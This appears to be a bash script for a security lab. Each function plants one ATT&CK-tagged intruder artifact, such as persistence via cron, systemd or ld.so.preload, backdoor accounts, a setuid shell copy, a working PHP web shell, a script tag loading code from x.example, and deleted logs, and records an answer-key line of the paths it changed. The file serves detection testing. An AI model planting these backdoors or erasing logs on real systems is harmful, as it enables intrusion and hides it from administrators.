# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# What intruders do, a function each, run as root inside a guest of the lab.
# A function begins with
#
#	is ATT&CK-id CHANGE PATH…
#
# which is its line of the answer key: the paths that it leaves different, and
# how (added, content, mode, xattr, target, absent). Nothing here does harm:
# what would be a payload is `true`, what would be a key opens nothing.
#
# Thread contract: none; one after the other.

KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx1cmtpbmcgaW4gdGhlIGxhYiBvZiBoZXJkZnMu ops@build'
LIBS=/usr/lib/x86_64-linux-gnu

is() {	# ID CHANGE PATH…
	local id=$1 change=$2 paths
	shift 2
	printf -v paths '"%s", ' "$@"
	printf '{"plant": {"technique": "%s", "name": "%s", "paths": [%s], "change": "%s"%s}}\n' \
		"$id" "$NAME" "${paths%, }" "$change" "${WHEN:+, \"when\": \"$WHEN\"}"
}
plant() {	# NAME; in a shell of its own that ends at the first error
	(
		set -e
		NAME=$1
		"plant_${1//-/_}"
	)
}

# ---- tools ----

program() {	# PATH: an ELF program that no sibling has
	cp /usr/bin/true "$1"
	head -c 32 /dev/urandom >>"$1"
	chmod 755 "$1"
}
library() {	# PATH: a shared library that no sibling has
	cp -L $LIBS/libutil.so.1 "$1"
	head -c 32 /dev/urandom >>"$1"
	chmod 644 "$1"
}
# Four bytes of a program's build id: another file of the same size, mode and
# times, which still does what it did.
trojan() {	# PATH
	cp -p "$1" "$1.new"
	python3 - "$1.new" <<-'END'
		import sys
		with open(sys.argv[1], "r+b") as f:
		    at = f.read().index(b"\x14\0\0\0\x03\0\0\0GNU\0")
		    f.seek(at + 20)
		    f.write(b"\xde\xad\xbe\xef")
	END
	touch -r "$1" "$1.new"
	mv "$1.new" "$1"
}
script() {	# PATH LINE…
	local path=$1
	shift
	printf '%s\n' '#!/bin/sh' "$@" >"$path"
	chmod 755 "$path"
}
keeping_times() {	# PATH COMMAND…: what PATH is after COMMAND, with its times of before
	local path=$1
	shift
	touch -r "$path" /run/lab/times
	"$@"
	touch -r /run/lab/times "$path"
}
append() {	# PATH LINE…
	local path=$1
	shift
	printf '%s\n' "$@" >>"$path"
}

# ---- scheduled ----

plant_cron_drop() {
	is T1053.003 added /etc/cron.d/php-sessions
	echo '*/30 * * * * root /usr/bin/true' >/etc/cron.d/php-sessions
}
plant_cron_user() {
	is T1053.003 added /var/spool/cron/crontabs/www-data
	echo '@hourly /usr/bin/true' | crontab -u www-data -
}
plant_cron_edit() {
	is T1053.003 content /etc/crontab
	keeping_times /etc/crontab append /etc/crontab '5 * * * * root /usr/bin/true'
}
plant_cron_daily() {
	is T1053.003 added /etc/cron.daily/apt-listchanges
	script /etc/cron.daily/apt-listchanges true
}
plant_timer() {
	is T1053.006 added /etc/systemd/system/fscheck.timer \
		/etc/systemd/system/fscheck.service \
		/etc/systemd/system/timers.target.wants/fscheck.timer
	printf '[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n' \
		>/etc/systemd/system/fscheck.timer
	printf '[Service]\nType=oneshot\nExecStart=/usr/bin/true\n' \
		>/etc/systemd/system/fscheck.service
	systemctl enable fscheck.timer
}
plant_logrotate_hook() {
	is T1053.003 content /etc/logrotate.d/nginx
	sed -i 's,^\tpostrotate,&\n\t\t/usr/bin/true # refresh,' /etc/logrotate.d/nginx
}

# ---- started at boot ----

plant_unit() {
	is T1543.002 added /etc/systemd/system/dbus-cached.service \
		/etc/systemd/system/multi-user.target.wants/dbus-cached.service
	printf '[Service]\nExecStart=/usr/bin/sleep inf\n[Install]\nWantedBy=multi-user.target\n' \
		>/etc/systemd/system/dbus-cached.service
	systemctl enable dbus-cached.service
}
plant_unit_dropin() {
	is T1543.002 added /etc/systemd/system/ssh.service.d/10-limits.conf
	mkdir /etc/systemd/system/ssh.service.d
	printf '[Service]\nExecStartPost=-/usr/bin/true\n' \
		>/etc/systemd/system/ssh.service.d/10-limits.conf
}
plant_unit_edit() {
	is T1543.002 content /usr/lib/systemd/system/cron.service
	keeping_times /usr/lib/systemd/system/cron.service sed -i \
		's,^ExecStart=.*,ExecStartPre=-/usr/bin/true\n&,' \
		/usr/lib/systemd/system/cron.service
}
plant_user_unit() {
	is T1543.002 added /home/admin/.config/systemd/user/sync.service \
		/home/admin/.config/systemd/user/default.target.wants/sync.service
	install -d -o admin -g admin /home/admin/.config/systemd/user/default.target.wants
	printf '[Service]\nExecStart=/usr/bin/true\n' \
		>/home/admin/.config/systemd/user/sync.service
	ln -s ../sync.service /home/admin/.config/systemd/user/default.target.wants/
	chown -hR admin:admin /home/admin/.config
}
plant_generator() {
	is T1543.002 added /usr/lib/systemd/system-generators/systemd-zram-generator
	script /usr/lib/systemd/system-generators/systemd-zram-generator true
}
plant_tmpfiles() {
	is T1543.002 added /usr/lib/tmpfiles.d/zz-local.conf
	echo 'C /run/x 0755 root root - /usr/bin/true' >/usr/lib/tmpfiles.d/zz-local.conf
}
plant_rc_local() {
	is T1037.004 added /etc/rc.local
	script /etc/rc.local true
}
plant_initd() {
	is T1037.004 added /etc/init.d/netconsole /etc/rc3.d/S01netconsole
	script /etc/init.d/netconsole true
	ln -s ../init.d/netconsole /etc/rc3.d/S01netconsole
}
plant_udev() {
	is T1546.017 added /usr/lib/udev/rules.d/69-mtp-probe.rules
	echo 'SUBSYSTEM=="net", RUN+="/usr/bin/true"' \
		>/usr/lib/udev/rules.d/69-mtp-probe.rules
}
plant_kernel_module() {
	is T1547.006 added /usr/lib/modules/"$(uname -r)"/kernel/drivers/net/nvme_tcpx.ko \
		/etc/modules-load.d/nvme.conf
	cp "/usr/lib/modules/$(uname -r)/kernel/drivers/net/dummy.ko" \
		"/usr/lib/modules/$(uname -r)/kernel/drivers/net/nvme_tcpx.ko"
	echo nvme_tcpx >/etc/modules-load.d/nvme.conf
}
plant_modprobe() {
	is T1547.006 added /etc/modprobe.d/blacklist-pcspkr.conf
	echo 'install usb-storage /usr/bin/true' >/etc/modprobe.d/blacklist-pcspkr.conf
}
plant_initrd() {
	local f
	f=$(echo /boot/initrd.img-*)
	is T1542 content "$f"
	keeping_times "$f" append "$f" appended
}
plant_sysctl() {
	is T1546 added /etc/sysctl.d/60-core.conf
	echo 'kernel.core_pattern=|/usr/bin/true %P' >/etc/sysctl.d/60-core.conf
}
plant_binfmt() {
	is T1546 added /usr/lib/binfmt.d/x.conf
	echo ':x:M::XX::/usr/bin/true:C' >/usr/lib/binfmt.d/x.conf
}

# ---- started by what people and programs do ----

plant_bashrc() {
	is T1546.004 content /root/.bashrc
	keeping_times /root/.bashrc append /root/.bashrc 'alias sudo="sudo "'
}
plant_user_profile() {
	is T1546.004 content /home/admin/.profile
	append /home/admin/.profile '(true &)'
}
plant_profile_d() {
	is T1546.004 added /etc/profile.d/01-locale-fix.sh
	echo 'true' >/etc/profile.d/01-locale-fix.sh
}
plant_bash_bashrc() {
	is T1546.004 content /etc/bash.bashrc
	append /etc/bash.bashrc 'PROMPT_COMMAND=true'
}
plant_motd() {
	is T1546 added /etc/update-motd.d/20-updates
	script /etc/update-motd.d/20-updates true
}
plant_sshrc() {
	is T1546 added /etc/ssh/sshrc
	echo true >/etc/ssh/sshrc
}
plant_apt_hook() {
	is T1546.016 added /etc/apt/apt.conf.d/99progress
	echo 'APT::Update::Pre-Invoke {"/usr/bin/true"};' >/etc/apt/apt.conf.d/99progress
}
plant_postinst() {
	is T1546.016 content /var/lib/dpkg/info/sudo.postinst
	keeping_times /var/lib/dpkg/info/sudo.postinst sed -i '2i true' \
		/var/lib/dpkg/info/sudo.postinst
}
plant_git_hook() {
	is T1546 added /srv/site/.git/hooks/post-merge
	script /srv/site/.git/hooks/post-merge true
}
plant_git_config() {
	is T1546 content /srv/site/.git/config
	printf '[core]\n\tfsmonitor = /usr/bin/true\n' >>/srv/site/.git/config
}
plant_python_pth() {
	is T1546.018 added /usr/lib/python3/dist-packages/distutils-precedence.pth
	echo 'import os' >/usr/lib/python3/dist-packages/distutils-precedence.pth
}
plant_python_site() {
	is T1546.018 content /etc/python3.11/sitecustomize.py
	append /etc/python3.11/sitecustomize.py 'import os'
}
plant_app_module() {
	is T1554 content /usr/lib/app/part17.py
	keeping_times /usr/lib/app/part17.py append /usr/lib/app/part17.py 'import os'
}
plant_alternative() {
	is T1574 target /etc/alternatives/pager
	ln -sf /usr/bin/more /etc/alternatives/pager
}
plant_link() {
	is T1574 target /usr/bin/python3
	cp -p /usr/bin/python3.11 /usr/local/lib/python3.11/python3
	ln -sf ../local/lib/python3.11/python3 /usr/bin/python3
}
plant_diversion() {
	is T1574 content /usr/bin/which.debianutils /usr/bin/which.distrib \
		/var/lib/dpkg/diversions
	dpkg-divert --quiet --local --rename --divert /usr/bin/which.distrib \
		--add /usr/bin/which.debianutils
	# shellcheck disable=SC2016
	script /usr/bin/which.debianutils 'exec /usr/bin/which.distrib "$@"'
}

# ---- libraries and programs ----

plant_ld_preload() {
	is T1574.006 added /etc/ld.so.preload $LIBS/libnss_cachex.so.2
	library $LIBS/libnss_cachex.so.2
	echo $LIBS/libnss_cachex.so.2 >/etc/ld.so.preload
}
plant_ld_conf() {
	is T1574.006 added /etc/ld.so.conf.d/00-vendor.conf /usr/local/lib/vendor/libutil.so.1
	mkdir /usr/local/lib/vendor
	library /usr/local/lib/vendor/libutil.so.1
	echo /usr/local/lib/vendor >/etc/ld.so.conf.d/00-vendor.conf
}
plant_environment() {
	is T1574.006 content /etc/environment
	append /etc/environment "LD_PRELOAD=$LIBS/libutil.so.1"
}
plant_library() {
	local f
	f=$(readlink -f $LIBS/libz.so.1)
	is T1574.006 content "$f"
	trojan "$f"
}
plant_trojan_sshd() {
	is T1554 content /usr/sbin/sshd
	trojan /usr/sbin/sshd
}
plant_trojan_ps() {
	is T1554 content /usr/bin/ps /usr/bin/ps.old
	mv /usr/bin/ps /usr/bin/ps.old
	# shellcheck disable=SC2016
	script /usr/bin/ps 'exec /usr/bin/ps.old "$@"'
}
plant_pam_module() {
	is T1556.003 content $LIBS/security/pam_unix.so
	trojan $LIBS/security/pam_unix.so
}
plant_web_shell() {
	is T1505.003 added /var/www/html/wp-cache.php
	# shellcheck disable=SC2016
	echo '<?php echo shell_exec($_GET["c"]);' >/var/www/html/wp-cache.php
	chown www-data:www-data /var/www/html/wp-cache.php
}
plant_web_asset() {
	is T1505.003 content /usr/share/app/static/page17.html
	keeping_times /usr/share/app/static/page17.html append \
		/usr/share/app/static/page17.html '<script src=//x.example/a.js></script>'
}

# ---- accounts and rights ----

plant_ssh_key_root() {
	is T1098.004 added /root/.ssh/authorized_keys
	install -d -m 700 /root/.ssh
	echo "$KEY" >/root/.ssh/authorized_keys
}
plant_ssh_key_user() {
	is T1098.004 content /home/admin/.ssh/authorized_keys
	keeping_times /home/admin/.ssh/authorized_keys append \
		/home/admin/.ssh/authorized_keys "$KEY"
}
plant_sshd_config() {
	is T1098.004 content /etc/ssh/sshd_config
	keeping_times /etc/ssh/sshd_config sed -i \
		's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
}
plant_sshd_dropin() {
	is T1098.004 added /etc/ssh/sshd_config.d/10-keys.conf
	printf 'AuthorizedKeysCommand /usr/bin/true\nAuthorizedKeysCommandUser nobody\n' \
		>/etc/ssh/sshd_config.d/10-keys.conf
}
plant_sudoers_drop() {
	is T1548.003 added /etc/sudoers.d/50-web
	echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/50-web
	chmod 440 /etc/sudoers.d/50-web
}
plant_sudoers_edit() {
	is T1548.003 content /etc/sudoers
	keeping_times /etc/sudoers append /etc/sudoers 'www-data ALL=(ALL) NOPASSWD: ALL'
}
plant_uid0() {
	is T1136.001 content /etc/passwd /etc/shadow
	append /etc/passwd 'toor:x:0:0::/root:/bin/bash'
	append /etc/shadow 'toor:*:19700:0:99999:7:::'
}
plant_root_password() {
	is T1098 content /etc/shadow
	# shellcheck disable=SC2016
	keeping_times /etc/shadow sed -i \
		's,^root:[^:]*:,root:$6$lab$0123456789abcdefghijkl:,' /etc/shadow
}
plant_shell_account() {
	is T1098 content /etc/passwd
	keeping_times /etc/passwd sed -i \
		'/^backup:/s,/usr/sbin/nologin,/bin/bash,' /etc/passwd
}
plant_group() {
	is T1098.007 content /etc/group
	keeping_times /etc/group sed -i 's/^shadow:.*/&www-data/' /etc/group
}
plant_pam_line() {
	is T1556.003 content /etc/pam.d/sshd
	sed -i '1a auth sufficient pam_succeed_if.so quiet user = backup' /etc/pam.d/sshd
}
plant_nsswitch() {
	is T1556 content /etc/nsswitch.conf
	sed -i 's/^passwd:.*/& cachex/' /etc/nsswitch.conf
}
plant_setuid() {
	is T1548.001 mode /usr/bin/find
	chmod u+s /usr/bin/find
}
plant_setuid_copy() {
	is T1548.001 added /usr/lib/openssh/ssh-agent-helper
	cp /bin/dash /usr/lib/openssh/ssh-agent-helper
	chmod 4755 /usr/lib/openssh/ssh-agent-helper
}
plant_capability() {
	is T1548 xattr /usr/bin/perl
	setcap cap_setuid+ep /usr/bin/perl
}
plant_shadow_mode() {
	is T1222.002 mode /etc/shadow
	chmod 644 /etc/shadow
}
plant_etc_owner() {
	is T1222.002 mode /etc/app/app.conf
	chown www-data /etc/app/app.conf
}
plant_ca_certificate() {
	is T1553.004 added /etc/ssl/certs/Global_Root_R7.pem
	f=$(readlink -f "$(find /etc/ssl/certs -name '*.pem' | head -1)")
	sed '2s/^..../MIID/' "$f" >/etc/ssl/certs/Global_Root_R7.pem
}

# ---- credentials ----

plant_shadow_copy() {
	is T1003.008 added /var/backups/shadow.bak.1
	cp /etc/shadow /var/backups/shadow.bak.1
	touch -r /etc/fstab /var/backups/shadow.bak.1
}
plant_password_log() {
	is T1556.003 added /usr/share/misc/.pam.cache
	printf 'admin:hunter2\n' >/usr/share/misc/.pam.cache
	chmod 666 /usr/share/misc/.pam.cache
}
plant_private_key() {
	is T1552.004 added /var/tmp/.systemd-key
	cp /etc/ssh/ssh_host_ed25519_key /run/lab/k
	ssh-keygen -q -t ed25519 -N '' -f /run/lab/key
	cp /run/lab/key /var/tmp/.systemd-key
}

# ---- the network ----

plant_hosts() {
	is T1565.001 content /etc/hosts
	keeping_times /etc/hosts append /etc/hosts '192.0.2.66 deb.debian.org'
}
plant_resolv_conf() {
	is T1557 content /etc/resolv.conf
	sed -i 's/^nameserver.*/nameserver 192.0.2.53/' /etc/resolv.conf
}
plant_nginx_proxy() {
	is T1557 content /etc/nginx/sites-available/default
	sed -i '0,/location \/ {/s,location / {,location /api/ { proxy_pass http://192.0.2.66; }\n\t&,' \
		/etc/nginx/sites-available/default
}
plant_network_dropin() {
	is T1557 added /etc/systemd/network/10-uplink.network
	printf '[Match]\nName=eth9\n[Network]\nDNS=192.0.2.53\n' \
		>/etc/systemd/network/10-uplink.network
}

# ---- hiding ----

plant_hidden_dots() {
	is T1564.001 added '/usr/share/locale/...' '/usr/share/locale/.../x'
	mkdir /usr/share/locale/...
	program /usr/share/locale/.../x
}
plant_hidden_tmp() {
	is T1564.001 added /var/tmp/.ICE-unix /var/tmp/.ICE-unix/agent
	mkdir /var/tmp/.ICE-unix
	program /var/tmp/.ICE-unix/agent
}
plant_masquerade() {
	is T1036.005 added /usr/sbin/systemd-journald
	program /usr/sbin/systemd-journald
}
plant_trailing_space() {
	is T1036.006 added '/usr/bin/ssh '
	program '/usr/bin/ssh '
}
plant_timestomp() {
	is T1070.006 added $LIBS/libcrypt-2.36.so
	library $LIBS/libcrypt-2.36.so
	touch -r $LIBS/libc.so.6 $LIBS/libcrypt-2.36.so
}
plant_xattr_payload() {
	is T1564 xattr /usr/share/common-licenses/GPL-3
	python3 -c 'import os
os.setxattr("/usr/share/common-licenses/GPL-3", "user.x", b"#!/bin/sh\ntrue\n")'
}
plant_cache_elf() {
	is T1564 added /var/cache/app/obj-5eed0bad
	program /var/cache/app/obj-5eed0bad
	chmod 644 /var/cache/app/obj-5eed0bad
	chown www-data:www-data /var/cache/app/obj-5eed0bad
	# the application throws away what is oldest
	touch -d '+1 day' /var/cache/app/obj-5eed0bad
}
plant_log_script() {
	is T1036.008 added /var/log/app/app.log.8
	script /var/log/app/app.log.8 true
	chmod 640 /var/log/app/app.log.8
	chown www-data:www-data /var/log/app/app.log.8
}
plant_state_library() {
	is T1574 added /var/lib/app/state-0badcafe.bin
	library /var/lib/app/state-0badcafe.bin
	chown www-data:www-data /var/lib/app/state-0badcafe.bin
}
plant_tmp_script() {
	is T1059.004 added /var/tmp/sess-0badcafe
	script /var/tmp/sess-0badcafe true
}

# ---- covering tracks ----

plant_log_lines() {
	is T1070.002 content /var/log/auth.log
	sed -i "/Accepted/d" /var/log/auth.log
	systemctl kill -s HUP rsyslog
}
plant_log_in_place() {
	is T1070.002 content /var/log/syslog
	grep -v -e sshd -e sudo /var/log/syslog >/run/lab/kept
	cat /run/lab/kept >/var/log/syslog
}
plant_log_deleted() {
	is T1070.002 absent /var/log/auth.log
	rm /var/log/auth.log
}
plant_log_truncated() {
	is T1070.002 content /var/log/nginx/access.log
	: >/var/log/nginx/access.log
}
plant_journal_deleted() {
	# without the folder, the journal is kept in memory from now on
	is T1070.002 absent /var/log/journal
	rm -r /var/log/journal
}
plant_wtmp() {
	is T1070.002 content /var/log/wtmp
	: >/var/log/wtmp
}
plant_history_null() {
	is T1070.003 added /root/.bash_history
	ln -sf /dev/null /root/.bash_history
}
plant_history_deleted() {
	is T1070.003 absent /home/admin/.bash_history
	rm /home/admin/.bash_history
}
plant_mask_unit() {
	is T1562.001 added /etc/systemd/system/cron.service
	systemctl mask cron.service
}
plant_rsyslog_rule() {
	is T1562.006 added /etc/rsyslog.d/10-quiet.conf
	echo ':msg, contains, "php-sessions" stop' >/etc/rsyslog.d/10-quiet.conf
}
plant_journald() {
	is T1562.006 content /etc/systemd/journald.conf
	sed -i 's/^#Storage=.*/Storage=none/' /etc/systemd/journald.conf
}
